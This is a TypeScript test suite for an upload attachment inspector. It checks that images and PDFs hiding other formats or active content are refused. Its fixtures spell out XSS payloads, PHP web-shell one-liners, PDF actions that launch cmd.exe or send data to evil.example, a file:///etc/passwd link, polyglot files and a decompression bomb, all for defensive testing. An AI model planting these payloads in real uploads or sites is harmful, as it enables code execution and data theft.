import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import {
  elfBytes, jpegApp, jpegComment, latin1, peBytes, pdfWithObjectStream, pngChunk, pseudoRandomBytes, tinyGif, tinyJpeg,
  tinyPdf, tinyPng, tinyWebp, zipBytes,
} from './attachment-fixtures.ts';
import { inspectAttachment } from './index.ts';

async function refusalReason(bytes: Buffer, fileName = 'upload.bin'): Promise<string> {
  const result = await inspectAttachment({ bytes, fileName });
  assert.equal(result.ok, false, `expected a refusal for ${fileName}`);
  if (result.ok) return '';
  assert.equal(result.code, 'attachment_type_refused');
  assert.equal(result.status, 415);
  return result.reason;
}

describe('images carrying another format after their end marker', () => {
  const trailers: Array<[string, Buffer, RegExp]> = [
    ['a ZIP', zipBytes(), /after its end \(a ZIP archive/],
    ['a PDF', tinyPdf(), /after its end \(a PDF document\)/],
    ['HTML', latin1('<html><script>alert(document.cookie)</script></html>'), /after its end \(web page code "<html"\)/],
    ['a Windows program', peBytes(), /after its end \(a Windows program\)/],
    ['a PHP script', latin1('<?php eval($_POST[1]); ?>'), /after its end \(web page code "<\?php"\)/],
    ['unidentified bytes', latin1('just some hidden bytes'), /extra data hidden after its end/],
  ];
  for (const [what, trailer, reason] of trailers) {
    test(`PNG + ${what} appended after IEND is refused`, async () => {
      assert.match(await refusalReason(Buffer.concat([tinyPng(), trailer]), 'photo.png'), reason);
    });
    test(`JPEG + ${what} appended after EOI is refused`, async () => {
      assert.match(await refusalReason(Buffer.concat([tinyJpeg(), trailer]), 'photo.jpg'), reason);
    });
  }

  test('a JPEG without a Multi-Picture index may not append a second JPEG that hides HTML', async () => {
    const hidden = tinyJpeg({ segments: [jpegComment('<script>alert(1)</script>')] });
    assert.match(await refusalReason(Buffer.concat([tinyJpeg(), hidden]), 'photo.jpg'), /after its end/);
  });

  test('GIFAR: a GIF with a Java archive appended is refused', async () => {
    const jar = zipBytes('META-INF/MANIFEST.MF', 'Main-Class: Evil\n');
    assert.match(await refusalReason(Buffer.concat([tinyGif(), jar]), 'avatar.gif'), /GIF image has \d+ bytes of extra data.*ZIP/);
  });

  test('a WebP whose RIFF size hides a trailer is refused', async () => {
    assert.match(await refusalReason(Buffer.concat([tinyWebp(), latin1('<svg onload=alert(1)>')]), 'a.webp'), /after its end/);
  });
});

describe('images carrying another format inside', () => {
  test('a PNG with <script> in a tEXt chunk is refused', async () => {
    const png = tinyPng([pngChunk('tEXt', latin1('Comment\0<script>alert(1)</script>'))]);
    assert.match(await refusalReason(png), /web page code "<script"/);
  });

  test('a PNG with an <html> page in a private chunk is refused', async () => {
    const png = tinyPng([pngChunk('prVt', latin1('<HTML><BODY onload=alert(1)>'))]);
    assert.match(await refusalReason(png), /web page code "<html"/);
  });

  test('a JPEG with an <img onerror> payload in its comment is refused', async () => {
    assert.match(await refusalReason(tinyJpeg({ segments: [jpegComment('<img src=x onerror=alert(document.domain)>')] })), /"<img"/);
  });

  test('a PNG with an <svg/onload> payload in a text chunk is refused', async () => {
    assert.match(await refusalReason(tinyPng([pngChunk('tEXt', latin1('Title\0<svg/onload=alert(1)>'))])), /"<svg"/);
  });

  test('a JPEG with <?php in its comment segment is refused', async () => {
    assert.match(await refusalReason(tinyJpeg({ segments: [jpegComment('<?php system($_GET["c"]); ?>')] })), /"<\?php"/);
  });

  test('a JPEG with a javascript: URL in its metadata is refused', async () => {
    assert.match(await refusalReason(tinyJpeg({ segments: [jpegApp(1, latin1('http://ns.adobe.com/xap/1.0/\0<a href="javascript:alert(1)">'))] })), /javascript:/);
  });

  test('a PNG with a ZIP archive hidden inside a chunk (not at the end) is refused', async () => {
    assert.match(await refusalReason(tinyPng([pngChunk('zzZp', zipBytes())])), /ZIP archive.* hidden inside/);
  });

  test('a JPEG with a Windows program in an APP segment is refused', async () => {
    assert.match(await refusalReason(tinyJpeg({ segments: [jpegApp(9, peBytes())] })), /Windows program/);
  });

  test('a PNG with a Linux program in a chunk is refused', async () => {
    assert.match(await refusalReason(tinyPng([pngChunk('elFx', elfBytes())])), /Linux program/);
  });

  test('a JPEG/PDF polyglot (%PDF in a comment near the start) is refused', async () => {
    const jpeg = tinyJpeg({ segments: [jpegComment('%PDF-1.4\n1 0 obj << >> endobj')] });
    assert.match(await refusalReason(jpeg), /PDF document hidden inside/);
  });

  test('an image/ISO polyglot (volume descriptor at 32 KB) is refused', async () => {
    const filler = Buffer.alloc(0x9000);
    filler.write('\x01CD001\x01', 0x8000 - 41, 'latin1'); // lands at file offset 0x8000 once wrapped
    const png = tinyPng([pngChunk('isoF', filler)]);
    const at = png.indexOf('CD001', 0, 'latin1');
    assert.equal(at, 0x8001, 'fixture must place CD001 at the ISO offset');
    assert.match(await refusalReason(png), /disk image/);
  });

  test('a JPEG/PHAR polyglot (__HALT_COMPILER stub in a comment) is refused', async () => {
    assert.match(await refusalReason(tinyJpeg({ segments: [jpegComment('<?= 1 ?>__HALT_COMPILER(); ?>\r\n')] })), /__halt_compiler/);
  });

  test('a PNG with the EICAR antivirus test program in a text chunk is refused', async () => {
    const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
    assert.match(await refusalReason(tinyPng([pngChunk('tEXt', latin1(`c\0${eicar}`))])), /EICAR/);
  });

  test('a PNG with an XZ archive header in a chunk is refused', async () => {
    assert.match(await refusalReason(tinyPng([pngChunk('xzXz', Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4]))])), /an XZ archive/);
  });

  test('a forged Multi-Picture JPEG cannot smuggle a ZIP after its second picture', async () => {
    const bytes = Buffer.concat([tinyJpeg({ multiPicture: true }), tinyJpeg(), zipBytes()]);
    assert.match(await refusalReason(bytes, 'a.jpg'), /after its end \(a ZIP archive/);
  });

  test('GIF/JavaScript polyglot (header "GIF89a/*") is refused', async () => {
    const gif = tinyGif();
    gif.write('/*', 6, 'latin1');
    assert.match(await refusalReason(gif), /run as JavaScript/);
  });
});

describe('PDF active content and PDF polyglots', () => {
  const active: Array<[string, Parameters<typeof tinyPdf>[0], RegExp]> = [
    ['/JavaScript in an OpenAction', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }, /JavaScript code that runs when the file is opened \(\/OpenAction\)/],
    ['/JS in a page additional action', { objects: ['<< /S /JavaScript /JS 7 0 R >>'], catalog: '/AA << /O 6 0 R >>' }, /JavaScript/],
    ['/JavaScript name tree', { catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>' }, /JavaScript/],
    ['/Launch', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) /P (/c calc) >>' }, /starts programs \(\/Launch\)/],
    ['/EmbeddedFiles', { catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>' }, /embedded files/],
    ['/EmbeddedFile stream', { objects: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] }, /embedded files/],
    ['/RichMedia', { objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }, /RichMedia/],
    ['/XFA form', { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }, /XFA/],
    ['/SubmitForm', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }, /SubmitForm/],
    ['/GoToR to a network share', { objects: ['<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >>'] }, /GoToR/],
    ['names written without spaces', { catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }, /JavaScript code that runs/],
    ['hex-escaped name /J#61vaScript', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }, /JavaScript/],
    ['hex-escaped /L#61unch', { objects: ['<< /S /L#61unch /F (calc.exe) >>'] }, /Launch/],
    ['a javascript: link', { objects: ['<< /S /URI /URI (javascript:alert(1)) >>'] }, /javascript:/],
    ['an octal-escaped javascript: link', { objects: ['<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>'] }, /link of type "javascript:"/],
    ['a file: link', { objects: ['<< /S /URI /URI <66696c653a2f2f2f6574632f706173737764> >>'] }, /link of type "file:"/],
    ['/Encrypt (cannot be checked)', { objects: ['<< /Filter /Standard /V 2 >>'], catalog: '/Encrypt 6 0 R' }, /password-protected or encrypted/],
  ];
  for (const [what, options, reason] of active) {
    test(`a PDF with ${what} is refused`, async () => {
      assert.match(await refusalReason(tinyPdf(options), 'statement.pdf'), reason);
    });
  }

  test('JavaScript hidden in a compressed object stream is found and refused', async () => {
    const pdf = tinyPdf(pdfWithObjectStream('<< /S /JavaScript /JS (app.launchURL("https://evil.example")) >>'));
    assert.equal(pdf.includes('JavaScript', 0, 'latin1'), false, 'fixture must hide the name from a text search');
    assert.match(await refusalReason(pdf, 'statement.pdf'), /JavaScript code that runs when the file is opened/);
  });

  test('an object stream whose filter is written as an array is still inflated and checked', async () => {
    assert.match(await refusalReason(tinyPdf(pdfWithObjectStream('<</S/JavaScript/JS(x)>>', '[/FlateDecode]')), 'a.pdf'), /JavaScript/);
  });

  test('an object stream in an encoding we cannot check is refused, not trusted', async () => {
    assert.match(await refusalReason(tinyPdf(pdfWithObjectStream('<< /S /GoTo >>', '/ASCIIHexDecode')), 'a.pdf'), /unusual encoding/);
  });

  test('a "stream" keyword inside a string does not hide a /JS action from the checker', async () => {
    const pdf = tinyPdf({ catalog: '/Info (x >>\nstream\n) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Note (endstream)' });
    assert.match(await refusalReason(pdf, 'a.pdf'), /JavaScript/);
  });

  test('a short /Length does not hide objects placed after the declared end of a stream', async () => {
    const obj = latin1('<< /Length 4 >>\nstream\nabcd\n7 0 obj << /S /JS /JS (app.alert(1)) >> endobj\nendstream');
    assert.match(await refusalReason(tinyPdf({ objects: [obj] }), 'a.pdf'), /JavaScript/);
  });

  test('a PDF with a ZIP archive inside a stream is refused', async () => {
    const zip = zipBytes('payload.exe', 'MZ');
    const obj = Buffer.concat([latin1(`<< /Length ${zip.length} >>\nstream\n`), zip, latin1('\nendstream')]);
    assert.match(await refusalReason(tinyPdf({ objects: [obj] }), 'a.pdf'), /ZIP archive.* hidden inside/);
  });

  test('a PDF with a Windows program inside a stream is refused', async () => {
    const pe = peBytes();
    const obj = Buffer.concat([latin1(`<< /Length ${pe.length} >>\nstream\n`), pe, latin1('\nendstream')]);
    assert.match(await refusalReason(tinyPdf({ objects: [obj] }), 'a.pdf'), /Windows program/);
  });

  test('a PDF with a bare ZIP signature carved into an uncompressed stream is refused', async () => {
    const obj = latin1('<< /Length 20 >>\nstream\nPK\x03\x04\x00\x00junk-junk-\nendstream');
    assert.match(await refusalReason(tinyPdf({ objects: [obj] }), 'a.pdf'), /ZIP archive signature outside its compressed data/);
  });

  test('a PDF with DOS program header bytes in its syntax is refused', async () => {
    assert.match(await refusalReason(tinyPdf({ objects: [latin1('<< /Payload (MZ\x90\x00\x03\x00) >>')] }), 'a.pdf'), /Windows program signature/);
  });

  test('random bytes in a compressed stream (like real fonts and images) raise no alarm', async () => {
    const noise = pseudoRandomBytes(4 * 1024 * 1024, 0xc0ffee);
    const obj = Buffer.concat([latin1(`<< /Length ${noise.length} /Filter /FlateDecode >>\nstream\n`), noise, latin1('\nendstream')]);
    const result = await inspectAttachment({ bytes: tinyPdf({ objects: [obj] }), fileName: 'scan.pdf' });
    assert.equal(result.ok, true, JSON.stringify(result));
  });

  test('a PDF with data appended after %%EOF is refused', async () => {
    assert.match(await refusalReason(Buffer.concat([tinyPdf(), zipBytes()]), 'a.pdf'), /ZIP|after its end/);
    assert.match(await refusalReason(Buffer.concat([tinyPdf(), latin1('<html>')]), 'a.pdf'), /after its end|web page/);
  });

  test('a PDF without %%EOF is refused as incomplete', async () => {
    const pdf = tinyPdf();
    assert.match(await refusalReason(pdf.subarray(0, pdf.lastIndexOf('%%EOF')), 'a.pdf'), /incomplete/);
  });

  test('garbage before %PDF within the 1024-byte reader allowance is refused', async () => {
    assert.match(await refusalReason(Buffer.concat([latin1('GIF89a junk '), tinyPdf()]), 'a.pdf'), /before its header|PDF document hidden inside/);
    assert.match(await refusalReason(Buffer.concat([latin1('<html><body>'), tinyPdf()]), 'a.pdf'), /PDF|web page/);
  });

  test('garbage before %PDF beyond the 1024-byte allowance is refused', async () => {
    assert.match(await refusalReason(Buffer.concat([Buffer.alloc(2000, 0x41), tinyPdf()]), 'a.pdf'), /PDF hidden deep inside/);
  });

  test('a byte-order mark before %PDF (which file-type skips) is refused', async () => {
    assert.match(await refusalReason(Buffer.concat([latin1('\xef\xbb\xbf'), tinyPdf()]), 'a.pdf'), /before its "%PDF" header/);
  });

  test('a compressed object stream that is a decompression bomb is refused', async () => {
    const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20));
    const stream = Buffer.concat([latin1(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`), bomb, latin1('\nendstream')]);
    assert.match(await refusalReason(tinyPdf({ objects: [stream] }), 'a.pdf'), /too complex/);
  });
});
